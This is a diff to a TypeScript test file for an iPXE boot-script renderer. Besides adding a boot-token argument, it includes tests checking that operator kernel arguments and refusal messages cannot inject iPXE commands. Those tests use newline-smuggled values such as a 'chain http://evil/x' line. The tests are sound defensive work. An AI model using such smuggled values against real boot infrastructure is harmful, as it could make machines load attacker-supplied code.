@@ -49,7 +49,7 @@ test('chooseBootScript: unknown, local boot for none/finished/PXE off, provision
 
 test('provision script: kernel/initramfs URLs, full cmdline, bounded retries, undionly recognised in the script', () => {
   const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending'), image };
-  const out = renderBootScript(templates, t, opts);
+  const out = renderBootScript(templates, t, opts, { bootToken: 'tok_ABC-123' });
   assert.equal(out.kind, 'provision');
   assert.equal(out.workflowId, 'wf-1234');
   const s = out.script;
@@ -67,16 +67,28 @@ test('provision script: kernel/initramfs URLs, full cmdline, bounded retries, un
   assert.match(s, /^chain tftp:\/\/\$\{next-server\}\/undionly\.kpxe/m);
   assert.match(s, /^reboot$/m);
   assert.doesNotMatch(s, /&amp;|&#x2F;|\{\{/, 'no HTML escaping, no unrendered tags');
-  const custom = renderBootScript(templates, t, { ...opts, maxAttempts: 5, retryDelaySeconds: 2 }).script;
+  const custom = renderBootScript(templates, t, { ...opts, maxAttempts: 5, retryDelaySeconds: 2 }, { bootToken: 't' }).script;
   assert.match(custom, /^iseq \$\{ironboot-attempt\} 5 && goto exhausted/m);
   assert.match(custom, /^sleep 2$/m);
 });
 
 test('operator kernel arguments cannot inject iPXE commands', () => {
   const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending', { kernelArgs: 'quiet\nchain http://evil/x\r\n' }), image };
-  const s = renderBootScript(templates, t, opts).script;
+  const s = renderBootScript(templates, t, opts, { bootToken: 't' }).script;
   assert.doesNotMatch(s, /^chain http:\/\/evil/m);
   assert.match(s, /panic=10 quiet chain http:\/\/evil\/x \|\| goto failed$/m);
+});
+
+test('a provisioning script without a boot token (refused) carries no token and says why; agentUrl sets ironboot.server=', () => {
+  const t: BootTarget = { mac: MAC, machine: machine(), workflow: workflow('pending'), image };
+  const refused = renderBootScript(templates, t, opts, { refused: '10.0.0.9 is not the address of ${mac}\nchain x' });
+  assert.equal(refused.kind, 'provision');
+  assert.ok(refused.script.startsWith('#!ipxe\n'));
+  assert.doesNotMatch(refused.script, /kernel|ironboot\.token|^chain/m);
+  assert.match(refused.script, /^echo ironboot: 10\.0\.0\.9 is not the address of \{mac\} chain x$/m, 'one line, no ${…} expansion');
+  assert.match(refused.script, /^exit 1$/m);
+  const tls = renderBootScript(templates, t, { ...opts, agentUrl: 'https://10.77.0.1:8443' }, { bootToken: 'tok' }).script;
+  assert.match(tls, /^kernel http:\/\/10\.77\.0\.1:8080\/artifacts\/vmlinuz .* ironboot\.server=https:\/\/10\.77\.0\.1:8443 ironboot\.workflow=wf-1234 ironboot\.token=tok /m);
 });
 
 test('kernelCmdline puts the serial console last (it becomes /dev/console) and operator args after panic=', () => {
